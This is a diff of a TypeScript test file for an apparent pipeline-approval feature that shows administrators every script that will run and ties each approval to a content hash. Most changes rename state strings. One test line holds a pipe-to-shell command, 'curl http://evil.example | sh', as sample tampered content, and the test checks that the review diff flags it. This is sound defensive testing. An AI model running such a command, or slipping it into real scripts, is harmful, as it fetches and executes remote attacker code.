@@ -80,7 +80,7 @@ test('an administrator is shown everything that will run, wherever it hides', as
   }
   expect(parts).toContainEqual({ what: 'Environment variable BASH_ENV', text: 'start.sh' });
   expect(shown.files).toMatchObject([{ path: 'small/bin/run.sh', text: 'echo from the script that comes with it\n' }]);
-  expect(shown).toMatchObject({ is_contained: false, approved: null, why_not: null });
+  expect(shown).toMatchObject({ is_contained: false, approved: null, unavailable_reason: null });
   expect(JSON.parse(shown.document).$graph).toHaveLength(3);
 });
 
@@ -89,7 +89,7 @@ test('leave is of one content: not of none, not of another, and not of what is r
   const { document_sha256 } = await review(id);
   await expect(decide(id, { approved: true })).rejects.toMatchObject({ status: 422 });
   await expect(decide(id, { approved: true, sha256: 'a'.repeat(64) })).rejects.toMatchObject({ status: 409 });
-  expect((await call(pipelines.detail, { params: { id } })).data.state).toBe('waiting');
+  expect((await call(pipelines.detail, { params: { id } })).data.state).toBe('pending_approval');
   const sha256 = document_sha256 ?? '';
   expect((await decide(id, { approved: true, sha256 })).data.state).toBe('ready');
 
@@ -99,10 +99,10 @@ test('leave is of one content: not of none, not of another, and not of what is r
   expect(changed.approved?.diff).toMatch(/^\+.*"stdout": "other\.txt"/m);
   expect(changed.approved?.diff).toMatch(/^-echo from the script that comes with it$/m);
   expect(changed.approved?.diff).toMatch(/^\+curl http:\/\/evil\.example \| sh$/m);
-  expect((await call(pipelines.detail, { params: { id: next } })).data.state).toBe('waiting');
+  expect((await call(pipelines.detail, { params: { id: next } })).data.state).toBe('pending_approval');
   await expect(decide(next, { approved: true, sha256 })).rejects.toMatchObject({ status: 409 });
 
-  expect((await decide(id, { approved: false })).data.state).toBe('refused');
+  expect((await decide(id, { approved: false })).data.state).toBe('rejected');
 });
 
 test('a script that hides what it says is shown with what it hides', async () => {
